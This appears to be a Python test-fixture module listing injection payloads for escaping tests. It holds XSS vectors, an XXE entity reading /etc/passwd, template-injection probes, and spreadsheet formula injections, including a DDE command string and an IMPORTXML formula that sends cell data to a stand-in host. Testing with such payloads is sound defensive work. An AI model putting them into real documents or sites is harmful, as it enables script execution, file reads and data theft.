"""Texts that try to become something else: markup, style, drawing, template, formula, link, control of a terminal (T11)."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "</title><b>bold</b>",
    "</td></tr></table><h1>Effective</h1>", "<!--", "-->", "<![CDATA[<b>x</b>]]>", "]]><b>", "&lt;b&gt;&amp;lt;",
    "&#60;script&#62;", "&NewLine;&Tab;", "<style>*{display:none}</style>", "</style><b>", "<link rel=stylesheet href=//e.example>",
    "<style>@import 'https://e.example'</style>", "background:url(https://e.example/x)", "expression(alert(1))",
    "<iframe srcdoc='<b>x</b>'></iframe>", "<object data='file:///etc/passwd'></object>", "<base href='https://e.example/'>",
    "<meta http-equiv=refresh content='0;url=https://e.example'>", "<form action=https://e.example><input></form>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src=x></math>", "<svg><use href='https://e.example/#a'/></svg>",
    "<svg><foreignObject><b>x</b></foreignObject></svg>", "<svg><animate attributeName=href values=javascript:1></svg>",
    "</svg></figure><p>free", "<?xml-stylesheet href='https://e.example'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "{{ 7*7 }}", "{% include 'report.css' %}", "{{ ''.__class__.__mro__ }}", "${7*7} #{7*7} <%= 7*7 %>", "$\\frac{1}{0}$ \\input{x}",
    "[a](javascript:alert(1)) ![b](https://e.example/x.png)", "javascript:alert(1)", '=HYPERLINK("https://e.example","x")',
    "`~!@#$%^&*()_+|}{\":?><,./;'[]\\=-",
)  # fmt: skip

FORMULAS = (
    "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", "  =1", '=HYPERLINK("x")',
    "{=1+1}", "\u00a0=1", "\u3000@x", "\u2003=1", "\u200b=1", "\ufeff=1", "=cmd|' /C calc'!A0", "\x0b=1", "\u2028=1",
    '=IMPORTXML(CONCAT("https://e.example/",A1),"//a")', "%0A=1", "https://e.example/x", "mailto:a@e.example",
    "internal:Sheet1!A1", "file:///etc/passwd", "0001", "1e9", "-3.5", "TRUE", "2026-01-01",
)  # fmt: skip
